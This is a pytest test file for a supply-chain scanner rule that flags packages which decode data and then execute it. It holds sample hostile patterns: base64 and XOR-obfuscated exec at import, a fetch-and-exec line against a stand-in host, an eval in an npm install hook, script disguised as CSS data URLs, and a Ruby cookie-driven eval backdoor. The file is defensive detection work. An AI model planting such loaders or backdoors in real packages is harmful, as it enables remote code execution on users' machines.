"""Data that is decoded and then run."""

import base64

import pytest

from pratique.core.finding import Confidence, Severity
from tests.analysis.inspecting import gem, npm, of_rule, package_json, wheel

RULE = "decoded-then-executed"
BLOB = base64.b64encode(b"print('marker')\n" * 20).decode()
SHUT = base64.b64encode(bytes(sign ^ 0xA7 for sign in b"print('marker')\n" * 20)).decode()
PYTHON = f"from base64 import b64decode as d\nexec(d('{BLOB}'))\n"
JAVASCRIPT = f"eval(Buffer.from('{BLOB}', 'base64').toString())\n"


@pytest.mark.parametrize(
    ("code", "confidence"),
    [
        (PYTHON, Confidence.MEDIUM),
        (
            f"from base64 import b64decode as d\nKEY = input()\nexec(bytes(x ^ KEY for x in d('{SHUT}')))\n",
            Confidence.HIGH,
        ),
        (
            f"from base64 import b64decode as d\nX = d('{BLOB}')\nKEY = input()\nexec(bytes(x ^ KEY for x in d('{SHUT}')))\n",
            Confidence.HIGH,
        ),
        (
            "import base64, requests\nexec(base64.b64decode(requests.get('https://a.invalid').text))\n",
            Confidence.HIGH,
        ),
    ],
    ids=["read here too", "not to be read", "beside a constant that is read", "fetched"],
)
def test_python_that_runs_decoded_data_at_import(code: str, confidence: Confidence) -> None:
    """What could be decoded here too is held, and blocked by what is in it; what nobody has seen is blocked."""
    finding = of_rule(wheel({"sample/__init__.py": code}), RULE)[0]
    assert (Severity.CRITICAL, confidence) == (finding.severity, finding.confidence)


def test_the_place_of_what_runs_is_told() -> None:
    (finding,) = of_rule(wheel({"sample/__init__.py": PYTHON}), RULE)
    assert ("sample/__init__.py", 2) == (finding.locations[0].path, finding.locations[0].line)


def test_javascript_that_evaluates_a_decoded_constant_at_load_blocks() -> None:
    (finding,) = of_rule(npm({"index.js": JAVASCRIPT}), RULE)
    assert Severity.CRITICAL == finding.severity


def test_the_same_in_an_install_hook_blocks() -> None:
    manifest = package_json(scripts={"preinstall": "node scripts/setup.js"})
    (finding,) = of_rule(npm({"package.json": manifest, "scripts/setup.js": JAVASCRIPT}), RULE)
    assert "at install" in finding.message


def test_a_function_that_somebody_must_call_is_a_note() -> None:
    files = {"index.js": "exports.run = s => eval(Buffer.from(s, 'base64').toString())\n"}
    for finding in of_rule(npm(files), RULE):
        assert finding.severity.rank <= Severity.MEDIUM.rank


def test_what_the_baseline_did_already_is_a_note() -> None:
    (finding,) = of_rule(npm({"index.js": JAVASCRIPT + "//\n"}, {"index.js": JAVASCRIPT}), RULE)
    assert Severity.MEDIUM == finding.severity


def test_decoding_without_running_stays_quiet() -> None:
    assert [] == of_rule(npm({"index.js": f"module.exports = Buffer.from('{BLOB}', 'base64')\n"}), RULE)
    assert [] == of_rule(
        wheel({"sample/__init__.py": f"import base64\nX = base64.b64decode('{BLOB}')\n"}), RULE
    )


def address(text: str, kind: str = "text/css") -> str:
    return f"data:{kind};base64,{base64.b64encode(text.encode()).decode()}"


STYLES = [f"a{{top:{number};}}" for number in range(14)]
TRIAL = f"const ok = await import('{address('a{top:0;}')}', {{with: {{type: 'css'}}}}).then(() => true, () => false);\n"


def test_a_style_by_which_a_browser_is_tried_stays_quiet() -> None:
    assert [] == of_rule(npm({"index.mjs": TRIAL, "package.json": package_json(main="index.mjs")}), RULE)


@pytest.mark.parametrize(
    "code",
    [
        f"await import('{address('console.log(1)')}', {{with: {{type: 'css'}}}});\n",
        f"await import('{address('a{top:0;}', 'text/javascript')}');\n",
        f"{TRIAL}await import('{address('console.log(1)', 'text/javascript')}');\n",
        f"{TRIAL.rstrip()} await import('{address('console.log(1)')}');\n",
        "".join(f"await import('{address(style)}');\n" for style in STYLES)
        + f"await import('{address('console.log(1)')}');\n",
        f"await import('{address('new a')}');\n",
        f"await import('{address('a``')}');\n",
        f"await import('{address('a{top:0;}' * 40 + 'b()')}');\n",
    ],
    ids=[
        *("code as style", "another kind", "code beside a style", "code on the same line"),
        *("code behind many styles", "two words", "a call without brackets", "longer than is kept"),
    ],
)
def test_code_in_an_address_is_held_whatever_it_calls_itself(code: str) -> None:
    found = of_rule(npm({"index.mjs": code, "package.json": package_json(main="index.mjs")}), RULE)
    assert [Severity.CRITICAL] == [finding.severity for finding in found]


REQUEST = """require 'base64'
class Shield
  def call(env)
    found = env['HTTP_COOKIE'].to_s.match(/___inert=(.+)/)
    eval(Base64.urlsafe_decode64(found[1])) if found
  end
end
"""


def test_what_a_request_brings_is_held_where_ruby_evaluates_it() -> None:
    (finding,) = of_rule(gem({"lib/sample.rb": REQUEST}), RULE)
    assert (Severity.CRITICAL, 5) == (finding.severity, finding.locations[0].line)
    (finding,) = of_rule(gem({"lib/sample.rb": REQUEST}, {"lib/sample.rb": REQUEST}), RULE)
    assert Severity.MEDIUM is finding.severity


def test_what_ruby_evaluates_of_its_own_files_when_it_is_called_is_a_note() -> None:
    own = REQUEST.replace("found[1]", "File.read('a.txt')")
    (finding,) = of_rule(gem({"lib/sample.rb": own}), RULE)
    assert Severity.MEDIUM is finding.severity
